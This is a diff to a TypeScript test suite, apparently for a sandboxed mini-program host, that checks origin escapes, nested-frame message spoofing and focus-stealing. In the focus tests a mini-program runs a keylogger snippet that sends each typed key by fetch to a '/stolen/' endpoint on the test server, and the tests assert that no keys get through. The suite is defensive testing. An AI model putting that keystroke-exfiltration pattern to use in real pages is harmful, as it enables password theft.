@@ -3,7 +3,7 @@ import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import type { Page } from 'playwright-core';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
-import { appOf, type Constellation, openConstellation } from './constellation.ts';
+import { appOf, type Constellation, openConstellation, PAGE } from './constellation.ts';
 
 /** What a mini-program runs to leave its origin. */
 const LEAVERS = {
@@ -20,6 +20,12 @@ const LEAVERS = {
   picture: () => `location.assign('/picture.svg')`,
   missing: () => `location.assign('/nowhere')`,
 } as const;
+/** Allowed by its hash; does something only in a frame inside the mini-program. */
+const NESTED = `if (frameElement) {
+  globalThis.got = 0;
+  onmessage = () => { got += 1; };
+  parent.parent.postMessage({ davit: 1, hello: { sdk: 'x', nonce: 'nested' } }, '*');
+}`;
 const PICTURE = '<svg xmlns="http://www.w3.org/2000/svg"/>';
 
 let world: Constellation;
@@ -34,10 +40,8 @@ const foreign = createServer((request, response) => {
 beforeAll(async () => {
   await new Promise<void>((listening) => foreign.listen(0, '127.0.0.1', listening));
   const leavers = Object.keys(LEAVERS).map((name) => [name, appOf({ '/picture.svg': PICTURE })]);
-  const nested = `globalThis.got = 0; onmessage = () => { got += 1; };
-    parent.parent.postMessage({ davit: 1, hello: { sdk: 'x', nonce: 'nested' } }, '*');`;
   world = await openConstellation(() => ({
-    food: appOf({ '/nested.js': nested }),
+    food: appOf({ '/index.html': `${PAGE}<script>${NESTED}</script>` }),
     bank: appOf(),
     ...Object.fromEntries(leavers),
   }));
@@ -168,9 +172,9 @@ describe('a mini-program beside another', () => {
         if (src) frame.src = src;
         document.body.append(frame);
       }
-      // An empty document is of this origin and may run its files; what it says to the gate does not come from the app's frame.
+      // An empty document is of this origin and may run its scripts; what it says to the gate does not come from the app's frame.
       const script = frames[2].document.createElement('script');
-      script.src = '/nested.js';
+      script.textContent = ${JSON.stringify(NESTED)};
       frames[2].document.body.append(script);
       await new Promise((done) => setTimeout(done, 400));
       await bridge.call('ui.toast', { text: 'ports: ' + bridge.ports.length + ', nested: ' + frames[2].got });
@@ -178,7 +182,7 @@ describe('a mini-program beside another', () => {
     await page.waitForFunction(() => harness.toasts.length > 0);
     expect(await page.evaluate(() => harness.toasts)).toEqual(['ports: 1, nested: 0']);
     expect(await violations()).toEqual([['food', 'stray']]);
-    expect(world.server.requests.slice(before)).toEqual(['food.localhost/nested.js']);
+    expect(world.server.requests.slice(before).filter((request) => !request.startsWith('localhost/'))).toEqual([]);
   });
 });
 
@@ -263,11 +267,13 @@ describe('a mini-program that floods', () => {
 });
 
 describe('a mini-program that takes the focus', () => {
+  /** Where it may send what it has got: its own origin never reaches the server. */
+  const stealTo = () => `${world.server.issuer}/stolen/`;
   /** Types a password into the host while `food` runs `grab` every millisecond; answers what each side has got. */
   const typeWhile = async (grab: string, guarded: boolean) => {
     const food = await world.launch(page, 'food');
     await food.evaluate(`{
-      addEventListener('keydown', ({ key }) => void fetch('/stolen/' + key), true);
+      addEventListener('keydown', ({ key }) => void fetch('${stealTo()}' + key), true);
       setInterval(() => { ${grab} }, 1);
     }`);
     if (guarded) {
@@ -299,7 +305,9 @@ describe('a mini-program that takes the focus', () => {
   test('by element.focus() gets no key while a host prompt is open, and is back afterwards', async () => {
     expect(await typeWhile(ELEMENT, true)).toEqual({ stolen: 0, typed: 'hunter2' });
     await page.evaluate(() => harness.release[0]?.());
-    await page.waitForFunction(() => document.querySelector('iframe')?.style.display === 'block');
+    await page.waitForFunction(() =>
+      [...document.querySelectorAll('iframe')].some(({ style }) => style.display === 'block'),
+    );
   });
 
   test('by window.focus() gets no key while a host prompt is open, and is ended', async () => {
@@ -318,7 +326,7 @@ describe('a mini-program that takes the focus', () => {
     const bank = await world.launch(page, 'bank');
     await bank.locator('#field').click();
     await page.waitForTimeout(200);
-    await food.evaluate(`addEventListener('keydown', ({ key }) => void fetch('/stolen/' + key), true);
+    await food.evaluate(`addEventListener('keydown', ({ key }) => void fetch('${stealTo()}' + key), true);
       setTimeout(() => window.focus(), 0);`);
     await untilEnded('food');
     expect(await endReason('food')).toBe('focus');
